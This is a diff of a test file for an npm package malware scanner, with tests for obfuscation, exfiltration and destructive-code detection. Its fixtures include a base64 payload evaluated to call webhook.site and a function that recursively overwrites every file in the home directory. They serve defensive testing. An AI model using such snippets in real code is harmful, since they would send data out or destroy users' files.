@@ -2,6 +2,7 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { prng } from '../../core/randomness.js';
 import { analyseJavaScript, mayHaveSignals } from './code-analyser.js';
+import { LONG_LINE_ENTROPY, lineEntropy } from './code-text.js';
 
 /** Every input a test expects a signal from; each must pass the pre-filter. */
 const POSITIVE_INPUTS: string[] = [];
@@ -211,10 +212,14 @@ describe('obfuscation', () => {
     expect(threats('new Function(atob(p))();')).toEqual(['npm.threat.obfuscation@1:1']);
     expect(threats('eval(x);')).toEqual([]);
     // Names bound to decoded data, also when the decoding call is spelled with escapes.
-    expect(threats("const p = Buffer.from(s, 'hex');\nlet q = 1;\neval(p);")).toEqual(['npm.threat.obfuscation@3:1']);
-    expect(threats("const p = Buffer['fr\\x6fm'](s, 'base64');\neval(p);")).toEqual(['npm.threat.obfuscation@2:1']);
-    expect(threats("const p = \\u0061tob(s);\neval(p);")).toEqual(['npm.threat.obfuscation@2:1']);
-    expect(threats("const p = Buffer.concat(s);\neval(p);")).toEqual([]);
+    expect(threats("const p = Buffer.from(s, 'hex');\nlet q = 1;\neval(p);")).toEqual([
+      'npm.threat.obfuscation@3:1',
+    ]);
+    expect(threats("const p = Buffer['fr\\x6fm'](s, 'base64');\neval(p);")).toEqual([
+      'npm.threat.obfuscation@2:1',
+    ]);
+    expect(threats('const p = \\u0061tob(s);\neval(p);')).toEqual(['npm.threat.obfuscation@2:1']);
+    expect(threats('const p = Buffer.concat(s);\neval(p);')).toEqual([]);
     const both = `var a = _0x1a2b + _0x3c4d + _0x5e6f + _0x7a8b + _0x9c0d;${' '.repeat(200)}eval(x);`;
     expect(hits(both).filter((h) => h.includes('obfuscation'))).toEqual([
       'npm.threat.obfuscation@1:9!high',
@@ -236,6 +241,21 @@ describe('obfuscation', () => {
     const src = `var p = 1;\nvar k = '${blob}';`;
     expect(threats(src)).toEqual(['npm.threat.obfuscation@2:1']);
     expect(threats(`var k = '${'abcd efgh; '.repeat(600)}';`)).toEqual([]);
+    // Minified code is as dense in symbols as base64 (entropy above the bar), but full of keywords.
+    const ids = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ$_';
+    const punct = '(){}[],;.:=!&|?+-*<>`"';
+    const words = ['return ', 'function(', 'let ', 'const ', '=>', 'new ', 'this.', 'null', 'typeof '];
+    const pick = (from: string | string[]): string => from[Math.floor(rnd() * from.length)]!;
+    let minified = '';
+    while (minified.length < 8000) {
+      const r = rnd();
+      if (r < 0.05) minified += pick(words);
+      else if (r < 0.5) minified += pick(ids) + (rnd() < 0.5 ? pick(ids) : '');
+      else if (r < 0.6) minified += String(Math.floor(rnd() * 1000));
+      else minified += pick(punct);
+    }
+    expect(lineEntropy(minified)).toBeGreaterThan(LONG_LINE_ENTROPY);
+    expect(threats(`var p = 1;\n${minified}`).filter((t) => t.includes('obfuscation'))).toEqual([]);
     POSITIVE_INPUTS.push(src);
   });
 });
@@ -371,10 +391,15 @@ describe('wallet-drainer', () => {
 
 describe('files that do not parse', () => {
   it('parses scripts with top-level await and return (meriyah rejects them, acorn accepts them)', () => {
-    const r = analyseJavaScript('tla.js', "#!/usr/bin/env node\nconst m = await import('node:https');\nif (!m) return;\n");
+    const r = analyseJavaScript(
+      'tla.js',
+      "#!/usr/bin/env node\nconst m = await import('node:https');\nif (!m) return;\n",
+    );
     expect(r.parsed).toBe(true);
     expect(r.parseError).toBeNull();
-    expect(r.signals.map((s) => `${s.ruleId}@${s.line}:${s.column}`)).toEqual(['npm.capability.network@2:17']);
+    expect(r.signals.map((s) => `${s.ruleId}@${s.line}:${s.column}`)).toEqual([
+      'npm.capability.network@2:17',
+    ]);
   });
 
   it('token-scans strings outside comments and notes the parse failure', () => {
@@ -468,7 +493,9 @@ describe('decoded code, clipboard hijacking and reverse shells', () => {
     expect(w?.message).toContain('clipboard rewriting');
     // Copying to the clipboard alone is what every "copy" button does.
     expect(
-      analyseJavaScript('c.js', "navigator.clipboard.writeText('hello');\n").signals.filter((s) => s.kind === 'threat'),
+      analyseJavaScript('c.js', "navigator.clipboard.writeText('hello');\n").signals.filter(
+        (s) => s.kind === 'threat',
+      ),
     ).toEqual([]);
   });
 
@@ -487,7 +514,10 @@ describe('decoded code, clipboard hijacking and reverse shells', () => {
 describe('one layer of encoding', () => {
   it('judges a base64 payload handed to eval by the string rules', () => {
     const payload = Buffer.from("require('https').get('https://webhook.site/x?' + 1)").toString('base64');
-    const r = analyseJavaScript('l.js', `const p = Buffer.from('${payload}', 'base64').toString();\neval(p);\n`);
+    const r = analyseJavaScript(
+      'l.js',
+      `const p = Buffer.from('${payload}', 'base64').toString();\neval(p);\n`,
+    );
     const ids = r.signals.map((s) => `${s.ruleId}:${s.line}`);
     expect(ids).toContain('npm.threat.obfuscation:2');
     expect(ids).toContain('npm.threat.exfiltration:2');
@@ -495,7 +525,10 @@ describe('one layer of encoding', () => {
 
   it('does not decode what is never evaluated', () => {
     const payload = Buffer.from('https://webhook.site/x').toString('base64');
-    const r = analyseJavaScript('l.js', `const p = Buffer.from('${payload}', 'base64').toString();\nconsole.log(p);\n`);
+    const r = analyseJavaScript(
+      'l.js',
+      `const p = Buffer.from('${payload}', 'base64').toString();\nconsole.log(p);\n`,
+    );
     expect(r.signals.filter((s) => s.kind === 'threat')).toEqual([]);
   });
 });
@@ -508,9 +541,11 @@ describe('hidden modules and recursive home writers', () => {
       'npm.capability.dynamic-require:info',
       'npm.threat.obfuscation:medium',
     ]);
-    expect(analyseJavaScript('p.js', "const m = require(['lodash', 'get'].join('.'));\n").signals.map((s) => s.ruleId)).toEqual([
-      'npm.capability.dynamic-require',
-    ]);
+    expect(
+      analyseJavaScript('p.js', "const m = require(['lodash', 'get'].join('.'));\n").signals.map(
+        (s) => s.ruleId,
+      ),
+    ).toEqual(['npm.capability.dynamic-require']);
   });
 
   it('reports a recursive file writer run over the home directory, not over a build directory', () => {
@@ -518,9 +553,9 @@ describe('hidden modules and recursive home writers', () => {
       "const fs = require('fs');\nconst os = require('os');\nfunction wipe(dir) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n" +
       "    const p = dir + '/' + e.name;\n    if (e.isDirectory()) wipe(p); else fs.writeFileSync(p, 'x');\n  }\n}\n";
     const home = analyseJavaScript('w.js', `${walker}wipe(os.homedir());\n`);
-    expect(home.signals.filter((s) => s.kind === 'threat').map((s) => `${s.ruleId}:${s.severity}:${s.line}`)).toEqual([
-      'npm.threat.destructive:high:9',
-    ]);
+    expect(
+      home.signals.filter((s) => s.kind === 'threat').map((s) => `${s.ruleId}:${s.severity}:${s.line}`),
+    ).toEqual(['npm.threat.destructive:high:9']);
     const build = analyseJavaScript('w.js', `${walker}wipe('dist');\n`);
     expect(build.signals.filter((s) => s.kind === 'threat')).toEqual([]);
   });
